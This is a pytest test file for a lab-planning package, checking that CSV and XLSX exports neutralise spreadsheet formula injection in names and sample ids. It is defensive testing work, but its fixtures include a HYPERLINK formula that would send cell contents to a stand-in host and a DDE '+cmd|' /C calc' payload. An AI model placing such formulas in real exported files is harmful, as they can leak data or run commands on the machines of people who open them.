"""Text a spreadsheet would run as a formula never reaches a CSV or XLSX file as one: sample ids,
file names, district and lab names come back as text (CSV: a leading apostrophe; XLSX: string
cells), numbers stay numbers, and labopt reads its own CSV files back as the text that went in.
"""

import csv
import datetime as dt
import io
import shutil
import subprocess
import sys
from pathlib import Path

import numpy as np
import openpyxl
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from labopt.cells import is_risky, neutralise, restore, safe_frame, write_csv, write_xlsx
from labopt.cli import lab
from labopt.scenario import load_scenario, save_folder, save_xlsx

TINY = Path(__file__).parent / "data" / "tiny"
LINK = '=HYPERLINK("http://x.example/?"&A1,"Click")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")
runner = CliRunner()


def csv_cells(path: Path) -> list[str]:
    """Every cell of a CSV file as the raw text a spreadsheet would be given."""
    with path.open(newline="", encoding="utf-8-sig") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def live_cells(path: Path) -> list[str]:
    """CSV cells a spreadsheet would run as a formula."""
    return [c for c in csv_cells(path) if c.lstrip(" ")[:1] in TRIGGERS]


def xlsx_cells(path) -> list:
    book = openpyxl.load_workbook(path)
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


# ------------------------------------------------------------------ the rule
@pytest.mark.parametrize(
    "text", [LINK, "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", " =1+1", "＝1+1", "'=1+1", "''@x"]
)
def test_risky_text_gets_one_apostrophe(text):
    assert is_risky(text)
    assert neutralise(text) == "'" + text
    assert restore(neutralise(text)) == text


@pytest.mark.parametrize("text", ["TH00001", "", "a=b", "'quoted", "1-2", "2021-10-04", "—"])
def test_plain_text_is_left_alone(text):
    assert neutralise(text) == text and restore(text) == text


@given(st.text(alphabet=st.sampled_from(list("'=+-@ \t\rab1＝")), max_size=8))
def test_restore_undoes_neutralise(text):
    escaped = neutralise(text)
    assert restore(escaped) == text
    assert escaped.lstrip(" ")[:1] not in TRIGGERS


def test_numbers_stay_numbers_and_only_text_is_escaped(tmp_path):
    df = pd.DataFrame(
        {
            "n": [-5, 3],
            "x": [-0.25, np.nan],
            "t": ["-5", "ok"],
            "mixed": [-7, "=1+1"],
            "=head": [1, 2],
        }
    )
    out = safe_frame(df)
    assert out["n"].tolist() == [-5, 3] and out["x"].iloc[0] == -0.25
    assert out["t"].tolist() == ["'-5", "ok"]
    assert out["mixed"].tolist() == [-7, "'=1+1"]
    assert list(out.columns) == ["n", "x", "t", "mixed", "'=head"]
    assert df["t"].tolist() == ["-5", "ok"]  # the input is not changed
    write_xlsx(tmp_path / "t.xlsx", {"s": df})
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["s"]
    assert ws["A2"].value == -5 and ws["A2"].data_type == "n"
    assert ws["B2"].value == -0.25 and ws["B3"].value is None
    assert ws["C2"].value == "-5" and ws["C2"].data_type == "s"
    assert ws["D2"].value == -7 and ws["D3"].value == "=1+1" and ws["D3"].data_type == "s"
    assert ws["D3"].quotePrefix and not ws["C3"].quotePrefix
    assert ws["E1"].value == "=head" and ws["E1"].data_type == "s"
    text = write_csv(df)
    assert text.splitlines()[2] == "3,,ok,'=1+1,2"


def test_xlsx_never_turns_text_into_links_or_numbers(tmp_path):
    write_xlsx(tmp_path / "t.xlsx", {"s": pd.DataFrame({"a": ["http://x.example/", "0012"]})})
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["s"]
    assert ws["A2"].hyperlink is None and ws["A3"].value == "0012"


def test_xlsx_cells_keep_their_type_in_every_kind_of_column(tmp_path):
    """Each column kind (NumPy numbers, nullable integers, pandas text, mixed objects,
    booleans, dates) gives the cells a reader expects; blanks stay blank."""
    df = pd.DataFrame(
        {
            "i": pd.array([1, None, 3], dtype="Int64"),
            "f": [1.5, np.nan, -np.inf],
            "u": np.array([1, 2, 3], dtype="uint8"),
            "s": pd.array(["a", None, "=1"], dtype="string"),
            "o": ["x", 2, None],
            "b": [True, False, True],
            "ob": [True, None, False],
            "d": pd.to_datetime(["2021-01-01", None, "2021-01-03"]),
        }
    )
    write_xlsx(tmp_path / "t.xlsx", {"s": df})
    ws = openpyxl.load_workbook(tmp_path / "t.xlsx")["s"]
    rows = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
    assert rows[0][:7] == [1, 1.5, 1, "a", "x", True, True]
    assert rows[1][:7] == [None, None, 2, None, 2, False, None]
    assert rows[2][:7] == [3, "-inf", 3, "=1", None, True, False]
    assert [r[7] for r in rows] == [dt.datetime(2021, 1, 1), None, dt.datetime(2021, 1, 3)]
    assert ws["C2"].data_type == "n" and ws["D4"].quotePrefix and ws["B4"].quotePrefix
    assert ws["F2"].data_type == "b" and ws["E3"].data_type == "n"


# ------------------------------------------------------------------ labopt batch
@pytest.fixture
def hostile_samples(tmp_path):
    ids = [LINK, "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3"] + [f"S{i:03d}" for i in range(36)]
    df = pd.DataFrame(
        {"sample_id": ids, "district": ["=evil"] * 20 + ["a"] * 20, "stream": "screening"}
    )
    path = tmp_path / "samples.csv"
    df.to_csv(path, index=False)
    return path, ids


def test_batch_make_and_decode_write_no_live_formula(tmp_path, hostile_samples):
    samples, ids = hostile_samples
    out = tmp_path / "batch"
    r = runner.invoke(lab.app, ["make", str(samples), "-a", "D2", "-c", "5", "--out", str(out)])
    assert r.exit_code == 0, r.output
    cells = csv_cells(out / "manifest.csv")
    assert "'" + LINK in cells and LINK not in cells
    for name in (
        "manifest.csv",
        "plates.csv",
        "pools.csv",
        "statuses.csv",
        "retest.csv",
        "first_stage.csv",
        "results_template.csv",
        "results_log.csv",
    ):
        assert live_cells(out / name) == [], name
    # the lab fills the sheet in; its file name is text a spreadsheet would run too
    t = pd.read_csv(out / "results_template.csv", dtype=str, keep_default_na=False)
    t["result"] = np.where(t["content"] == "positive_control", "positive", "negative")
    results = tmp_path / "@SUM(9+9).csv"
    t.to_csv(results, index=False)
    r = runner.invoke(lab.app, ["decode", str(out), str(results)])
    assert r.exit_code == 0, r.output
    for path in out.glob("*.csv"):
        assert live_cells(path) == [], path.name
    assert "'@SUM(9+9).csv" in csv_cells(out / "results_log.csv")
    # read back by labopt as the text that went in
    statuses = pd.read_csv(out / "statuses.csv", dtype=str, keep_default_na=False)
    assert sorted(restore(s) for s in statuses["sample_id"]) == sorted(ids)
    assert (statuses["status"] == "negative").all()


# ------------------------------------------------------------------ plans and scenarios
@pytest.fixture
def hostile_scenario(tmp_path):
    dst = tmp_path / "tiny"
    shutil.copytree(TINY, dst)
    districts = pd.read_csv(dst / "districts.csv", dtype=str, keep_default_na=False)
    districts.loc[0, "name"] = LINK
    districts.to_csv(dst / "districts.csv", index=False)
    labs = pd.read_csv(dst / "labs.csv", dtype=str, keep_default_na=False)
    labs.loc[0, "name"] = "-2+3"
    labs.to_csv(dst / "labs.csv", index=False)
    return dst


def test_plan_tables_hold_names_as_text(tmp_path, hostile_scenario):
    out = tmp_path / "plan"
    r = subprocess.run(
        [sys.executable, "-m", "labopt.cli.main", "plan", str(hostile_scenario), "--out", str(out)],
        capture_output=True,
        check=False,
        text=True,
        timeout=600,
    )
    assert r.returncode == 0, r.stderr
    csvs = sorted(out.glob("*.csv"))
    assert csvs
    seen = [c for p in csvs for c in csv_cells(p)]
    assert "'" + LINK in seen and "'-2+3" in seen
    for path in csvs:
        assert live_cells(path) == [], path.name
    cells = xlsx_cells(out / "plan.xlsx")
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    names = [c for c in cells if c.value == LINK]
    assert names and all(c.data_type == "s" and c.quotePrefix for c in names)
    assert any(c.value == "-2+3" and c.data_type == "s" for c in cells)
    # numbers stay numbers in the workbook
    assert any(c.data_type == "n" and isinstance(c.value, (int, float)) for c in cells)


def test_scenario_files_round_trip_the_names(tmp_path, hostile_scenario):
    scn = load_scenario(hostile_scenario)
    folder = save_folder(scn, tmp_path / "csv")
    assert "'" + LINK in csv_cells(folder / "districts.csv")
    assert live_cells(folder / "districts.csv") == [] and live_cells(folder / "labs.csv") == []
    book = save_xlsx(scn, tmp_path / "s.xlsx")
    assert [c.coordinate for c in xlsx_cells(book) if c.data_type == "f"] == []
    for again in (load_scenario(folder), load_scenario(book)):
        assert again.districts[0].name == LINK and again.labs[0].name == "-2+3"


def test_the_service_writer_is_the_same_rule():
    from labopt_api.responses import table_response

    df = pd.DataFrame({"sample_id": [LINK], "n": [-1]})
    resp = table_response(df, "manifest", "csv")
    assert resp.body.decode().splitlines()[1].startswith(f"\"'{LINK[:11]}")
    book = openpyxl.load_workbook(io.BytesIO(table_response(df, "manifest", "xlsx").body))
    ws = book.active
    assert ws["A2"].value == LINK and ws["A2"].data_type == "s" and ws["B2"].value == -1
